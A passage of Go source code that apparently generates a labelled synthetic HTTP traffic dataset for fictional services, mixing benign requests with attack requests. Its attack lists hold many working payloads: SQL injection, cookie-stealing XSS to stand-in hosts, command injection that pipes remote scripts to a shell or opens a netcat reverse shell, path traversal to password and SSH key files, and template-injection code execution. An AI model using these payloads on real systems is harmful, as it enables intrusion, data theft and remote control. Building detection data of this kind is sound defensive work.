		g.addB(g.ex(g.userRole(h8Ad, "reporting", "analyst"), "GET", "/v2/conversions?from=2026-11-19&limit="+g.pick("1000", "500", "250")+"&cursor="+base64.StdEncoding.EncodeToString([]byte("{\"id\":\""+g.hex(12)+"\"}"))).rjson(200, map[string]any{"data": []any{map[string]any{"id": "cv_" + g.hex(12), "value": 42.5, "currency": "USD", "order_id_sha256": g.hex(64)}}, "next_cursor": g.chars(40, h8B64)}))
	case 20:
		var evs []any
		for i := 0; i < 5; i++ {
			evs = append(evs, map[string]any{"event_name": "Purchase", "event_time": 1763625600 + i, "action_source": "website", "event_source_url": "https://shop.example/checkout/thanks", "user_data": map[string]any{"em": g.hex(64), "ph": g.hex(64), "client_ip_address": "203.0.113." + fmt.Sprint(g.r.Intn(250)), "fbp": "fb.1.1763625600." + fmt.Sprint(g.r.Intn(999999999))}, "custom_data": map[string]any{"value": 99.9, "currency": "USD", "contents": base64.StdEncoding.EncodeToString([]byte("sku=LAMP-22;qty=1"))}})
		}
		g.addB(g.ex(g.userRole(h8Ad, "partner"), "POST", "/v2/events/batch").jbody(map[string]any{"data": evs, "test_event_code": ""}).rjson(200, map[string]any{"events_received": 5, "fbtrace_id": g.chars(11, h8Alnum)}))
	case 21:
		g.addB(g.ex(u, "GET", "/v2/account/api-credentials").rjson(200, map[string]any{"credentials": []any{map[string]any{"id": "key_" + g.hex(8), "name": "Looker sync", "prefix": "apk_live_" + g.chars(4, h8Alnum), "last_used": "2026-11-19T22:01:00Z", "created_by": u.sub, "secret": "•••••••• (shown once at creation)"}}}).hdr("Origin", "https://app.adpulse.test").rhdr("Access-Control-Allow-Origin", "https://app.adpulse.test").rhdr("Access-Control-Allow-Credentials", "true").rhdr("Vary", "Origin"))
	}
}

func (g *h8Gen) pick2(xs ...int) int { return xs[g.r.Intn(len(xs))] }

func (g *h8Gen) benignExtra() {
	switch g.r.Intn(7) {
	case 0:
		// SAML POST binding from a browser: a large base64 blob
		resp := base64.StdEncoding.EncodeToString([]byte(`<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_` + g.hex(32) + `" Version="2.0" IssueInstant="2026-11-20T08:10:00Z" Destination="https://sso.keystone-id.test/app/saml/acs"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">http://adfs.partner.example/adfs/services/trust</saml:Issuer><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignatureValue>` + g.chars(344, h8B64) + `</ds:SignatureValue></ds:Signature></samlp:Response>`))
		e := g.ex(nil, "POST", "https://sso.keystone-id.test/app/saml/acs").setNoAuth().form(url.Values{"SAMLResponse": {resp}, "RelayState": {"https://sso.keystone-id.test/app/UserHome?fromLogin=true"}})
		e.reqH["Origin"] = []string{"https://adfs.partner.example"}
		e.reqH["Referer"] = []string{"https://adfs.partner.example/"}
		g.addB(e.resp(302, "text/html; charset=utf-8", "").rhdr("Location", "https://sso.keystone-id.test/app/UserHome").rhdr("Set-Cookie", "sid="+g.chars(40, h8Alnum)+"; Path=/; Secure; HttpOnly; SameSite=None"))
	case 1:
		u := g.user(h8Ad)
		e := g.ex(u, "OPTIONS", "/v2/campaigns").hdr("Origin", "https://app.adpulse.test").hdr("Access-Control-Request-Method", "POST").hdr("Access-Control-Request-Headers", "authorization,content-type")
		e.noAuth = true
		g.addB(e.resp(204, "text/plain", "").rhdr("Access-Control-Allow-Origin", "https://app.adpulse.test").rhdr("Access-Control-Allow-Credentials", "true").rhdr("Access-Control-Allow-Methods", "GET, POST, PATCH, DELETE").rhdr("Access-Control-Max-Age", "600").rhdr("Vary", "Origin"))
	case 2:
		g.addB(g.ex(g.user(h8Ad), "GET", "/v2/help/articles/custom-sql-reports").rjson(200, map[string]any{"title": "Writing custom SQL reports", "body_markdown": "Custom reports run read-only SQL against your account's warehouse view:\n\n```sql\nSELECT campaign_id, SUM(spend_micros) / 1e6 AS spend\nFROM   daily_stats\nWHERE  date >= CURRENT_DATE - 7\nGROUP  BY campaign_id;\n```\n\nIf a query fails you get `{\"error\":\"query_failed\",\"hint\":\"unknown column; did you mean spend_micros?\"}` — we never show the database's own message.", "updated": "2026-10-02"}))
	case 3:
		g.addB(g.ex(g.user(h8ERP), "GET", "/api/docs/soap-faults").resp(200, "text/html; charset=utf-8", `<html><body><h1>SOAP faults</h1><p>A fault has <code>faultcode</code> (<code>soap:Client</code> for your mistakes, <code>soap:Server</code> for ours) and a <code>faultstring</code>. Older releases (before 5.2) leaked a Java stack trace in <code>&lt;detail&gt;</code>; if you still see one, tell us.</p><pre>&lt;faultstring&gt;Unknown SKU 'PLT-9981'&lt;/faultstring&gt;</pre><p>Exceptions are logged with the <code>X-Request-Id</code> header value.</p></body></html>`))
	case 4:
		u := g.userRole(h8IdP, "admin")
		g.addB(g.ex(u, "GET", "/admin/v1/apps/0oa"+g.chars(17, h8Alnum)+"/sso/saml/certificate").resp(200, "application/x-pem-file", "-----BEGIN CERTIFICATE-----\n"+g.certB64(60)+"\n"+g.chars(64, h8B64)+"\n"+g.chars(64, h8B64)+"\n"+g.chars(40, h8B64)+"=\n-----END CERTIFICATE-----\n"))
	case 5:
		u := g.user(h8ERP)
		g.addB(g.ex(u, "GET", "/api/shipments/SHP"+fmt.Sprint(g.r.Intn(999999))+"/label?format=zpl").resp(200, "text/plain; charset=utf-8", "^XA\n^FO50,50^A0N,40,40^FDPalletWorks DC-EAST-2^FS\n^FO50,120^BCN,100,Y,N,N^FD1Z"+g.chars(16, h8Upper)+"^FS\n^FO50,260^A0N,30,30^FDShip to: ACME RETAIL DC 7^FS\n^XZ\n"))
	case 6:
		u := g.userRole(h8IdP, "auditor", "admin")
		log := ""
		for i := 0; i < 6; i++ {
			log += fmt.Sprintf("2026-11-20T07:%02d:%02dZ level=info msg=\"token issued\" client_id=0oa%s grant=client_credentials kid=ks-2026-11-a jti_sha256=%s\n", i*7, g.r.Intn(60), g.chars(17, h8Alnum), g.hex(64))
		}
		log += "2026-11-20T07:45:10Z level=warn msg=\"password grant refused\" reason=\"password grant disabled for this app\" user=lena@northwind.example\n"
		g.addB(g.ex(u, "GET", "/admin/v1/system/logs?stream=token-service&tail=7").resp(200, "text/plain; charset=utf-8", log))
	}
}

func (g *h8Gen) benignAll() {
	defer func() {
		g.r.Shuffle(len(g.benign), func(i, j int) { g.benign[i], g.benign[j] = g.benign[j], g.benign[i] })
	}()
	for i := 0; i < 40; i++ {
		g.benignExtra()
	}
	for i := 0; i < 1245; i++ {
		switch i % 3 {
		case 0:
			g.benignIdP()
		case 1:
			g.benignERP()
		default:
			g.benignAd()
		}
	}
}

// ---------- attack placement ----------

// inj places payload p in a request to host at loc: q (query, escaped), qraw
// (query, as given), path, pathraw, json (dotted name, nested), form, hdr,
// cookie, soap (an element of a SOAP call), mp (multipart field), mpfile
// (multipart file name), gql (GraphQL variable).
func (g *h8Gen) inj(host, loc, name, p string) *h8Ex {
	a := g.atk(host)
	list := map[string]string{h8IdP: "/admin/v1/users", h8ERP: "/api/purchase-orders", h8Ad: "/v2/campaigns"}[host]
	var e *h8Ex
	switch loc {
	case "q":
		e = g.ex(a, "GET", list+"?"+name+"="+url.QueryEscape(p)+"&limit=50")
	case "qraw":
		e = g.ex(a, "GET", list+"?"+name+"="+p)
	case "path":
		e = g.ex(a, "GET", list+"/"+url.PathEscape(p))
	case "pathraw":
		e = g.ex(a, "GET", list+"/"+p)
	case "json":
		keys := strings.Split(name, ".")
		var v any = p
		for i := len(keys) - 1; i >= 0; i-- {
			v = map[string]any{keys[i]: v}
		}
		m := v.(map[string]any)
		m["requested_by"] = a.sub
		ep := map[string]string{h8IdP: "/scim/v2/Users", h8ERP: "/api/purchase-orders", h8Ad: "/v2/reports/query"}[host]
		e = g.ex(a, "POST", ep).jbody(m)
	case "form":
		ep := map[string]string{h8IdP: "/admin/v1/groups/search", h8ERP: "/api/stock/adjust", h8Ad: "/v2/leads"}[host]
		e = g.ex(a, "POST", ep).form(url.Values{name: {p}, "page": {"1"}})
	case "hdr":
		e = g.ex(a, "GET", list+"?limit=20").hdr(name, p)
	case "cookie":
		e = g.ex(a, "GET", list+"?limit=20").hdr("Cookie", "ui_lang=en; "+name+"="+url.QueryEscape(p)+"; sid="+g.hex(32))
	case "soap":
		e = g.ex(g.atk(h8ERP), "POST", "/soap/InventoryService").soap("GetStockLevel", "<inv:"+name+">"+h8XMLEsc(p)+"</inv:"+name+">")
	case "mp":
		ep := map[string]string{h8IdP: "/admin/v1/branding/assets", h8ERP: "/api/imports/stock", h8Ad: "/v2/creatives"}[host]
		e = g.ex(a, "POST", ep).multipart([][4]string{{"title", "", "", "upload"}, {name, "", "", p}, {"file", "data.csv", "text/csv", "sku,qty\nPLT-EUR-1200,4\n"}})
	case "mpfile":
		ep := map[string]string{h8IdP: "/admin/v1/branding/assets", h8ERP: "/api/imports/stock", h8Ad: "/v2/creatives"}[host]
		e = g.ex(a, "POST", ep).multipart([][4]string{{"title", "", "", "upload"}, {"file", p, "application/octet-stream", "PK\x03\x04 not really a zip"}})
	case "gql":
		e = g.ex(g.atk(h8Ad), "POST", "/graphql").jbody(map[string]any{"query": "query Find($" + name + ": String) { campaigns(search: $" + name + ") { id name } }", "variables": map[string]any{name: p}})
	default:
		panic("loc " + loc)
	}
	switch g.r.Intn(3) {
	case 0:
		e.rjson(400, map[string]any{"error": "invalid_request", "message": "One or more parameters are invalid."})
	case 1:
		e.rjson(200, map[string]any{"data": []any{}, "total": 0})
	default:
		e.rjson(404, map[string]any{"error": "not_found"})
	}
	if loc == "soap" {
		e.resp(500, "text/xml; charset=utf-8", h8SoapFault("soap:Client", "Validation failed for the request", ""))
	}
	return e
}

type h8P struct{ host, loc, name, p string }

func (g *h8Gen) attackAll() {
	g.attackSQL()
	g.attackXSS()
	g.attackOther()
	g.attackSSRF()
	g.attackJWT()
	g.attackVerbose()
	g.attackSensitive()
	g.attackLimits()
}

// ---------- SQL injection ----------

func (g *h8Gen) attackSQL() {
	ps := []h8P{
		{h8IdP, "q", "q", "' OR '1'='1"},
		{h8IdP, "q", "q", "admin'--"},
		{h8IdP, "q", "status", "ACTIVE' UNION SELECT login,password_hash,NULL,NULL FROM users--"},
		{h8IdP, "q", "sort", "(CASE WHEN (SELECT SUBSTRING(password_hash,1,1) FROM users WHERE login='admin')='$' THEN name ELSE id END)"},
		{h8IdP, "qraw", "q", "%27%20oR%20%271%27%3D%271"},
		{h8IdP, "qraw", "q", "x%2527%2520UNION%2520SELECT%2520NULL%252CNULL--"},
		{h8IdP, "qraw", "after", "1%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)"},
		{h8IdP, "path", "", "usr_1' AND 1=2 UNION SELECT 1,version(),3--"},
		{h8IdP, "path", "", "1;SELECT pg_sleep(7)--"},
		{h8IdP, "json", "name.givenName", "Robert'); DROP TABLE scim_users;--"},
		{h8IdP, "json", "userName", "x@y.test' -- "},
		{h8IdP, "json", "emails.value", "a@b.test' AND extractvalue(1,concat(0x7e,(SELECT database())))-- -"},
		{h8IdP, "form", "name", "Finance' /*!50000UnIoN*/ /*!50000SeLeCt*/ 1,2,3#"},
		{h8IdP, "form", "name", "') OR ('a'='a"},
		{h8IdP, "hdr", "User-Agent", "Mozilla/5.0' AND (SELECT 4412 FROM (SELECT(SLEEP(6)))xYzq) AND 'a'='a"},
		{h8IdP, "hdr", "X-Forwarded-For", "203.0.113.5' OR 1=1-- -"},
		{h8IdP, "cookie", "last_filter", "department' UNION ALL SELECT NULL,NULL,NULL-- -"},
		{h8IdP, "q", "q", `a" OR 1=1 -- -`},
		{h8IdP, "q", "q", "1' ORDER BY 12-- -"},
		{h8IdP, "q", "id", "1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))"},
		{h8IdP, "q", "q", "';WAITFOR DELAY '0:0:7'--"},
		{h8IdP, "json", "meta.filters.dept", "IT' || (SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)--"},
		{h8ERP, "soap", "Sku", "PLT-EUR-1200' OR 1=1--"},
		{h8ERP, "soap", "Sku", "x' UNION SELECT username, password FROM erp_users--"},
		{h8ERP, "soap", "Warehouse", "DC-EAST-2'; EXEC sp_configure 'show advanced options',1;RECONFIGURE--"},
		{h8ERP, "soap", "Sku", "1' AND 1=(SELECT COUNT(*) FROM all_tables)--"},
		{h8ERP, "soap", "Sku", "BOX'||(SELECT DBMS_PIPE.RECEIVE_MESSAGE('a',6) FROM dual)||'"},
		{h8ERP, "q", "supplier", "S40231' AND SLEEP(5)#"},
		{h8ERP, "q", "supplier", "-1 UNION SELECT 1,@@version,3,4"},
		{h8ERP, "q", "sort", "created;SELECT+CASE+WHEN+(1=1)+THEN+pg_sleep(5)+ELSE+pg_sleep(0)+END--"},
		{h8ERP, "qraw", "status", "open%27%0AUNION%0ASELECT%0Apassword%0AFROM%0Ausers--"},
		{h8ERP, "qraw", "status", "open'%09AND%09'1'%3D'1"},
		{h8ERP, "path", "", "PO-1' AND updatexml(1,concat(0x7e,user()),1)-- "},
		{h8ERP, "json", "lines.sku", "PLT' UNION SELECT sql FROM sqlite_master--"},
		{h8ERP, "json", "supplier", "S1\" OR \"\"=\""},
		{h8ERP, "json", "delivery.window", "1) OR (1=1"},
		{h8ERP, "form", "sku", "TAPE-48' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64-- "},
		{h8ERP, "form", "bin", "A-01'/**/OR/**/1=1#"},
		{h8ERP, "hdr", "Referer", "https://erp.palletworks.test/po?id=1' or '1'='1"},
		{h8ERP, "cookie", "wh_pref", "DC-EAST-2' AND 1=1 UNION SELECT NULL--"},
		{h8ERP, "mp", "comment", "x'; DROP TABLE stock_levels; --"},
		{h8ERP, "mpfile", "", "stock'+(SELECT 1 FROM pg_sleep(5))+'.csv"},
		{h8Ad, "q", "search", "winter' UNION SELECT api_key,secret,NULL FROM partners-- -"},
		{h8Ad, "q", "status", "active' AND 1=0 UNION ALL SELECT table_name,NULL FROM information_schema.tables#"},
		{h8Ad, "qraw", "search", "%2527%2520OR%25201%253D1--"},
		{h8Ad, "q", "fields", "id,name FROM campaigns WHERE 1=1 UNION SELECT email,password_hash FROM users--"},
		{h8Ad, "q", "id", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"},
		{h8Ad, "path", "", "cmp_1' oR '7'='7"},
		{h8Ad, "json", "filters.campaign_id", "cmp_1' OR 1=1 -- "},
		{h8Ad, "json", "dimensions.name", "date`, (SELECT password FROM users LIMIT 1) AS `x"},
		{h8Ad, "json", "date_range.from", "2026-11-01' AND pg_sleep(10) IS NULL--"},
		{h8Ad, "gql", "s", "' UNION SELECT id, token FROM sessions--"},
		{h8Ad, "gql", "s", "x'; SELECT pg_sleep(6); --"},
		{h8Ad, "form", "email", "lead@x.test' or 1=1 limit 1 -- -+"},
		{h8Ad, "hdr", "X-Campaign-Ref", "1' uNiOn SeLeCt null,null,concat(user(),0x3a,database())-- -"},
		{h8Ad, "cookie", "ap_segment", "lapsed-90d' OR 'x'='x"},
		{h8Ad, "mp", "name", "Winter' || (SELECT sqlite_version()) || '"},
		{h8Ad, "q", "order", "name ASC, (SELECT 1 FROM dual WHERE 1=1 AND SLEEP(5))"},
		{h8Ad, "q", "search", "shoes' AND '1'='1' AND SUBSTR((SELECT version()),1,1)='P"},
		{h8Ad, "q", "campaign", "1' AND 1=CAST((SELECT password FROM users LIMIT 1) AS int)--"},
		{h8IdP, "q", "q", "1'; EXEC master..xp_dirtree '\\\\attacker.example\\a'--"},
		{h8ERP, "q", "supplier", "';shutdown--"},
		{h8Ad, "q", "q", "\" or 1=1 or \"\"=\""},
		{h8IdP, "json", "externalId", "E100' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- "},
		{h8ERP, "json", "po", "PO-1 WAITFOR DELAY '0:0:5'"},
	}
	for i, p := range ps {
		e := g.inj(p.host, p.loc, p.name, p.p)
		// a share of the probes reached the database and leaked its error
		switch i % 6 {
		case 1:
			switch p.host {
			case h8ERP:
				if p.loc == "soap" {
					e.resp(500, "text/xml; charset=utf-8", h8SoapFault("soap:Server", "java.sql.SQLSyntaxErrorException: ORA-01756: quoted string not properly terminated", "")).also(h8VERB)
				} else {
					e.resp(500, "text/plain; charset=utf-8", "Microsoft OLE DB Provider for SQL Server error '80040e14'\nUnclosed quotation mark after the character string ''.\n/api/po.asp, line 41\n").also(h8VERB)
				}
			case h8IdP:
				e.rjson(500, map[string]any{"error": "internal", "detail": "SQLSTATE[42601]: Syntax error: 7 ERROR:  syntax error at or near \"UNION\"\nLINE 1: ...FROM users WHERE login ILIKE '%x' UNION SELECT...\n                                                  ^"}).also(h8VERB)
			default:
				e.rjson(500, map[string]any{"error": "internal", "detail": "SQLSTATE[42000]: Syntax error or access violation: 1064 You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near '' LIMIT 50' at line 1"}).also(h8VERB)
			}
		case 3:
			e.resp(500, "text/plain; charset=utf-8", "pq: unterminated quoted string at or near \"'\"\nLINE 1: SELECT id, name FROM campaigns WHERE name = '"+strings.ReplaceAll(p.p, "\n", " ")+"\n                                                       ^").also(h8VERB)
		}
		g.addA(e, h8SQL)
	}
	// payloads in XML attributes of SOAP calls (entity-escaped as a client library writes them)
	attrs := []struct{ inner, label string }{
		{`<inv:Sku scheme="` + h8XMLEsc("GTIN' AND 1=(SELECT COUNT(*) FROM sysobjects)--") + `">PLT-EUR-1200</inv:Sku>`, h8SQL},
		{`<inv:Filter field="bin" op="` + h8XMLEsc("=' OR 'a'='a' --") + `">A-01</inv:Filter>`, h8SQL},
		{`<inv:Label lang="` + h8XMLEsc(`en"><script>alert(1)</script>`) + `">Pallet</inv:Label>`, h8XSS},
		{`<inv:Label src="http://169.254.169.254/latest/meta-data/iam/info">Pallet</inv:Label>`, h8SSRF},
		{`<inv:Export path="` + h8XMLEsc(`../../../../../etc/passwd`) + `">csv</inv:Export>`, h8OTH},
	}
	for _, a := range attrs {
		e := g.ex(g.atk(h8ERP), "POST", "/soap/InventoryService").soap("GetStockLevel", a.inner)
		e.resp(500, "text/xml; charset=utf-8", h8SoapFault("soap:Client", "Validation failed for the request", ""))
		g.addA(e, a.label)
	}
}

// ---------- XSS ----------

func (g *h8Gen) attackXSS() {
	ps := []h8P{
		{h8IdP, "json", "name.givenName", "<script>fetch('https://x.evil-cdn.example/c?'+document.cookie)</script>"},
		{h8IdP, "json", "displayName", "<img src=x onerror=alert(document.domain)>"},
		{h8IdP, "json", "title", `"><svg/onload=confirm(1)>`},
		{h8IdP, "json", "enterprise.department", "<iframe src=javascript:alert(1)>"},
		{h8IdP, "q", "q", "<ScRiPt>alert(1)</sCrIpT>"},
		{h8IdP, "qraw", "q", "%3Cimg%20src%3D1%20onerror%3Dprompt(8)%3E"},
		{h8IdP, "qraw", "q", "%253Cscript%253Ealert(1)%253C%252Fscript%253E"},
		{h8IdP, "q", "redirect_uri", "javascript:alert(document.cookie)//"},
		{h8IdP, "q", "return_to", "JaVaScRiPt:eval(atob('YWxlcnQoMSk='))"},
		{h8IdP, "form", "name", "<details open ontoggle=alert(1)>"},
		{h8IdP, "form", "name", "<body onload=alert('XSS')>"},
		{h8IdP, "hdr", "Referer", "https://sso.keystone-id.test/login?next=<script>alert(1)</script>"},
		{h8IdP, "hdr", "User-Agent", "Mozilla/5.0 <svg onload=alert(1)>"},
		{h8IdP, "cookie", "ui_theme", "dark\"><script>alert(1)</script>"},
		{h8IdP, "path", "", "<svg onload=alert(1)>"},
		{h8IdP, "mp", "caption", "<a href=\"javascript:alert(1)\">Company logo</a>"},
		{h8IdP, "json", "profile.website", "java&#x09;script:alert(1)"},
		{h8IdP, "json", "profile.website", "javascript&colon;alert(document.domain)"},
		{h8IdP, "json", "nickName", "<scr<script>ipt>alert(1)</scr</script>ipt>"},
		{h8IdP, "json", "profile.bio", "<input autofocus onfocus=alert(1)>"},
		{h8ERP, "soap", "Note", "<script>alert('pick')</script>"},
		{h8ERP, "soap", "Sku", "\"><img src=x onerror=alert(1)>"},
		{h8ERP, "json", "notes", "<video><source onerror=\"javascript:alert(1)\"></video>"},
		{h8ERP, "json", "lines.description", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"},
		{h8ERP, "q", "supplier", "<marquee onstart=alert(1)>"},
		{h8ERP, "q", "q", "'\"><script src=https://xss.evil-cdn.example/x.js></script>"},
		{h8ERP, "form", "reason", "<object data=\"javascript:alert(1)\"></object>"},
		{h8ERP, "form", "reason", "<x onclick=alert(1)>click me"},
		{h8ERP, "mp", "comment", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"},
		{h8ERP, "mpfile", "", "<img src=x onerror=alert(1)>.csv"},
		{h8ERP, "hdr", "X-Device-Name", "<script>new Image().src='//x.evil-cdn.example/?c='+document.cookie</script>"},
		{h8ERP, "cookie", "last_sku", "<img src=x onerror=alert(1)>"},
		{h8ERP, "qraw", "q", "%3Csvg%2Fonload%3Dalert%60xss%60%3E"},
		{h8Ad, "json", "name", "<img src=1 oNeRrOr=alert`1`>"},
		{h8Ad, "json", "filters.placement", "\"><iframe srcdoc=\"<script>alert(1)</script>\">"},
		{h8Ad, "q", "landing_url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="},
		{h8Ad, "q", "click_url", "vbscript:msgbox(\"xss\")"},
		{h8Ad, "q", "search", "</title><script>alert(1)</script>"},
		{h8Ad, "qraw", "search", "%3Cbody%20onpageshow%3Dalert(1)%3E"},
		{h8Ad, "form", "company", "<a href=javascript:alert(1)>Acme</a>"},
		{h8Ad, "form", "message", "<style>@import'https://x.evil-cdn.example/x.css'</style><img src=x onerror=alert(2)>"},
		{h8Ad, "gql", "s", "<svg onload=alert(1)>"},
		{h8Ad, "hdr", "Referer", "https://news.example/\"><script>alert(1)</script>"},
		{h8Ad, "cookie", "ap_last_view", "\"><img src=x onerror=alert(1)>"},
		{h8Ad, "path", "", "cmp_1<script>alert(1)<%2Fscript>"},
		{h8Ad, "mp", "name", "<iframe src=\"javascript:alert(`x`)\">"},
		{h8Ad, "json", "targeting.note", "\u003cscript\u003ealert(1)\u003c/script\u003e"},
		{h8Ad, "json", "landing_url", "javascript://%0aalert(document.cookie)"},
		{h8Ad, "json", "description", "<p>Great deal</p><img src=\"x\" onerror=\"this.src='https://x.evil-cdn.example/?'+document.cookie\">"},
		{h8Ad, "q", "cb", "<svg><script>alert&#40;1&#41;</script>"},
		{h8IdP, "json", "logo_uri", "data:text/html,<script>alert(1)</script>"},
		{h8IdP, "q", "login_hint", "\"onmouseover=\"alert(1)\"x=\""},
		{h8ERP, "json", "delivery.contact", "<div style=\"width:expression(alert(1))\" onmouseenter=alert(1)>"},
		{h8IdP, "json", "name.formatted", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>"},
		{h8Ad, "json", "creative.html", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>"},
		{h8Ad, "form", "website", "<a href=\"&#106;avascript:alert(1)\">site</a>"},
		{h8IdP, "q", "q", "<iframe/src=\"data:text/html,<svg onload=alert(1)>\">"},
		{h8ERP, "soap", "Note", "<img \"\"\"><script>alert(1)</script>\">"},
		{h8Ad, "hdr", "X-Client-Label", "<SCRIPT SRC=//x.evil-cdn.example/.j></SCRIPT>"},
		{h8IdP, "form", "description", "<form action=\"javascript:alert(1)\"><input type=submit value=Verify></form>"},
		{h8ERP, "json", "lines.notes", "<embed src=\"javascript:alert(1)\">"},
		{h8Ad, "cookie", "ap_hash", "<svg/onload=eval(location.hash.slice(1))>"},
		{h8IdP, "mp", "alt_text", "<keygen autofocus onfocus=alert(document.cookie)>"},
	}
	for _, p := range ps {
		g.addA(g.inj(p.host, p.loc, p.name, p.p), h8XSS)
	}
	// uploaded files: SVG and HTML creatives carrying script
	files := []struct{ name, ct, body string }{
		{"banner_728x90.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" width="728" height="90"><rect width="728" height="90" fill="#222"/><script type="text/javascript">document.location='https://x.evil-cdn.example/?c='+document.cookie</script></svg>`},
		{"sq_250.svg", "image/svg+xml", `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><circle r="40"/></svg>`},
		{"promo.html", "text/html", `<!doctype html><html><body><div class="ad"><img src="https://cdn.adpulse.test/a.png" onerror="fetch('//x.evil-cdn.example/'+localStorage.token)"></div></body></html>`},
		{"cta.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text x="10" y="20">Shop now</text></a></svg>`},
		{"interstitial.html", "text/html", `<html><head><script>window.top.location='https://x.evil-cdn.example/win'</script></head><body>Loading…</body></html>`},
		{"logo.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"></iframe></foreignObject></svg>`},
		{"feed.xml", "application/xml", `<?xml version="1.0"?><products xmlns:html="http://www.w3.org/1999/xhtml"><item><html:script>alert(1)</html:script></item></products>`},
		{"b.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="alert(1)"/></svg>`},
	}
	for i, f := range files {
		host := []string{h8Ad, h8Ad, h8Ad, h8IdP, h8Ad, h8IdP, h8ERP, h8Ad}[i]
		ep := map[string]string{h8IdP: "/admin/v1/branding/assets", h8ERP: "/api/imports/catalog", h8Ad: "/v2/creatives"}[host]
		e := g.ex(g.atk(host), "POST", ep).multipart([][4]string{{"name", "", "", "creative " + fmt.Sprint(i)}, {"file", f.name, f.ct, f.body}})
		g.addA(e.rjson(201, map[string]any{"id": "cr_" + g.hex(8), "status": "pending_review"}), h8XSS)
	}
}

// ---------- other injection ----------

func (g *h8Gen) attackOther() {
	ps := []h8P{
		// command injection
		{h8ERP, "json", "lines.sku", "PLT-EUR-1200; cat /etc/passwd"},
		{h8ERP, "q", "q", "x | id"},
		{h8ERP, "form", "bin", "A-01 && curl -s http://c2.evil-cdn.example/s.sh | sh"},
		{h8ERP, "soap", "Warehouse", "DC-EAST-2`uname -a`"},
		{h8ERP, "soap", "Sku", "$(wget -qO- http://c2.evil-cdn.example/x|bash)"},
		{h8ERP, "mpfile", "", "stock.csv;nc -e /bin/sh 185.220.101.34 4444;.csv"},
		{h8IdP, "json", "name.familyName", "Nowak;cat${IFS}/etc/shadow"},
		{h8IdP, "q", "q", "{cat,/etc/passwd}"},
		{h8IdP, "form", "name", "a;/???/c?t /???/p??s??"},
		{h8IdP, "hdr", "User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"},
		{h8IdP, "qraw", "q", "test%0aid"},
		{h8IdP, "q", "q", "x;w'h'o'am'i"},
		{h8Ad, "json", "dimensions.name", "date; c\\at /etc/hosts"},
		{h8Ad, "gql", "s", "winter$(sleep 10)"},
		{h8Ad, "q", "export", "report.csv || ping -c 10 185.220.101.34"},
		{h8Ad, "cookie", "ap_region", "us-east;$'\\x69\\x64'"},
		{h8Ad, "mp", "name", "banner`id`.svg"},
		{h8Ad, "form", "company", "Acme & powershell -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAA=="},
		{h8Ad, "q", "file", "x.csv|type C:\\Windows\\win.ini"},
		// path traversal
		{h8ERP, "q", "file", "../../../../../../etc/passwd"},
		{h8ERP, "qraw", "file", "..%2f..%2f..%2f..%2fetc%2fshadow"},
		{h8ERP, "qraw", "template", "%2e%2e%2f%2e%2e%2f%2e%2e%2fopt%2fpalletworks%2f.env"},
		{h8ERP, "qraw", "file", "....//....//....//etc/passwd"},
		{h8ERP, "q", "file", "..\\..\\..\\..\\windows\\win.ini"},
		{h8ERP, "qraw", "file", "..%252f..%252f..%252fetc%252fpasswd"},
		{h8ERP, "qraw", "file", "../../../../etc/passwd%00.csv"},
		{h8ERP, "pathraw", "", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"},
		{h8IdP, "q", "logo", "../../../../../proc/self/environ"},
		{h8IdP, "pathraw", "", "..%2f..%2f..%2f..%2fetc%2fpasswd"},
		{h8IdP, "mpfile", "", "../../../../var/www/html/shell.php"},
		{h8Ad, "q", "template", "/../../../../../../root/.ssh/id_rsa"},
		{h8Ad, "json", "export.path", "..\\..\\..\\..\\inetpub\\wwwroot\\web.config"},
		{h8Ad, "qraw", "file", "%u002e%u002e%u002f%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fpasswd"},
		{h8Ad, "q", "lang", "../../../../../../../../etc/passwd\x00"},
		// SSTI
		{h8IdP, "json", "emailTemplate.subject", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"},
		{h8IdP, "json", "emailTemplate.body", "{{''.__class__.__mro__[1].__subclasses__()}}"},
		{h8IdP, "form", "name", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}"},
		{h8IdP, "q", "q", "{{7*7}}"},
		{h8Ad, "json", "name", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"},
		{h8Ad, "json", "description", "{{['id']|filter('system')}}"},
		{h8Ad, "form", "message", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"},
